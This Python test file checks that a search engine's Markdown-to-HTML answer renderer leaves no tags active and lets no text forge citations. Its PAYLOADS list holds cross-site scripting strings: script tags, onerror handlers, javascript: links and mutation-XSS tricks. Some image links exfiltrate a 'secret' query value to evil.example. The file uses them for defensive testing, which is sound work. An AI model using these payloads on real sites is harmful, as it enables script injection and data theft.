"""Generated Markdown as the page shows it: what it may look like, and that none of it is active."""

from __future__ import annotations

import re

import pytest

from search.answering.citations import Token
from search.answering.draft import DraftEvent
from search.answering.support import Unsupported
from search.answering.thinking import Discard
from search.pages.answer_html import BEGIN, END, AnswerHtml, Block, answer_html
from search.pages.results import marked

# What a tag of ours looks like; everything else between < and > is an attack that came through.
OURS = re.compile(
    r"</?(?:p|br|hr|em|strong|s|code|blockquote|ul|ol|li|h3|h4|table|thead|tbody|tr|th|td|figure|figcaption)>"
    r'|<pre tabindex="0">|</pre>|<ol start="\d+">|<span(?: class="\w+")?>|</span>'
    r'|<a class="cite" href="#source-\d+" aria-label="Source \d+">|</a>'
)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><img src=x></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "![x](http://evil.example/?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](//evil.example)",
    "<http://evil.example/>",
    "<javascript:alert(1)>",
    "http://evil.example/?q=secret",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    'x" onmouseover="alert(1)',
    "<x\tonclick=alert(1)>",
    "<ſcript>alert(1)</ſcript>",
]
PLACES = [
    "{}",
    "**{}**",
    "`{}`",
    "# {}",
    "- {}",
    "> {}",
    "| a |\n|---|\n| {} |",
    "```{}\ncode\n```",
    "```html\n{}\n```",
]


def html_of(text: str, *, extracts: bool = False) -> str:
    return answer_html([Token(text)], extracts=extracts)


@pytest.mark.parametrize("extracts", [False, True])
@pytest.mark.parametrize("place", PLACES)
def test_nothing_of_a_text_is_active(place: str, extracts: bool) -> None:
    for payload in PAYLOADS:
        html = html_of(place.format(payload), extracts=extracts)
        assert "<" not in OURS.sub("", html), payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_is_active_at_any_moment_of_a_stream(payload: str) -> None:
    shown = AnswerHtml(extracts=False)
    for character in f"Before\n\n{payload}\n\nafter":
        shown.feed(Token(character))
        for block in shown.changed():
            assert "<" not in OURS.sub("", block.html)


def test_markdown_becomes_html() -> None:
    html = html_of(
        "# Title\n\n**bold** `code`\n\n1. one\n2. two\n\n| a |\n|---|\n| b |\n\n> said\n\n```python\nx = 1\n```"
    )
    for part in (
        "<h3>Title</h3>",
        "<strong>bold</strong> <code>code</code>",
        "<li>two</li>",
        "<td>b</td>",
        "<blockquote>\n<p>said</p>",
        '<figcaption>python</figcaption><pre tabindex="0"><code><span class="n">x</span>',
    ):
        assert part in html


@pytest.mark.parametrize(("lines", "coloured"), [(100, True), (400, False)])
def test_only_code_that_is_coloured_quickly_is_coloured(lines: int, coloured: bool) -> None:
    assert ("<span" in html_of("```c\n" + "int a;\n" * lines + "```")) is coloured


def test_names_in_extracts_keep_their_marks() -> None:
    assert "__init__ and 2**10**3 &amp;amp; \\n" in html_of("__init__ and 2**10**3 &amp; \\n", extracts=True)


def test_a_stream_ends_as_the_whole_text() -> None:
    text = "# A\n\nSome *text*\ngoes\u2028on\u2029and\x0con\x85.\n\n"
    text += "- one\n- two\n\n  more\n\n```js\nlet a = 1;\n\nlet b;\n```\n\n"
    text += "| a |\n|---|\n| 1 |\n\nend"
    blocks: dict[int, str] = {}
    shown = AnswerHtml(extracts=False)
    for at in range(0, len(text), 3):
        shown.feed(Token(text[at : at + 3]))
        blocks |= {block.number: block.html for block in shown.changed()}
    blocks |= {block.number: block.html for block in shown.changed(final=True)}
    assert "\n".join(blocks.values()) == html_of(text)


def test_only_what_changed_is_shown_again() -> None:
    shown = AnswerHtml(extracts=False)
    shown.feed(Token("One.\n\nTw"))
    assert [block.number for block in shown.changed()] == [0, 1]
    assert shown.changed() == []
    shown.feed(Token("o."))
    assert shown.changed() == [Block(1, "<p>Two.</p>\n")]
    shown.feed(Discard())
    shown.feed(Token("New."))
    assert shown.changed() == [Block(0, "<p>New.</p>\n")]


def test_citations_and_verdicts_stand_where_they_were_written() -> None:
    events: list[DraftEvent] = [
        Token("It is 4 "),
        Token("[2]", 2),
        Token(".\n"),
        Unsupported(("4", "<b>")),
        Token("\nNext."),
    ]
    assert answer_html(events, extracts=False) == (
        '<p>It is 4 <a class="cite" href="#source-2" aria-label="Source 2">2</a>. '
        '<span class="unsupported">not in the passages: 4, &lt;b&gt;</span></p>\n\n<p>Next.</p>\n'
    )


def test_a_text_cannot_write_citations_of_its_own() -> None:
    forged = f"{BEGIN}0{END} {BEGIN}0-0{END} &#xE000;0-0&#xE001; &#57344;0&#57345;"
    assert "<a" not in answer_html([Token("[1]", 1), Token(forged)], extracts=False).replace('<a class="cite"', "", 1)


def test_a_result_marks_the_words_that_were_asked_for() -> None:
    assert marked("Migrations record changes.", "How do I migrate? migration change") == [
        ("Migrations", True),
        (" record ", False),
        ("changes", True),
        (".", False),
    ]
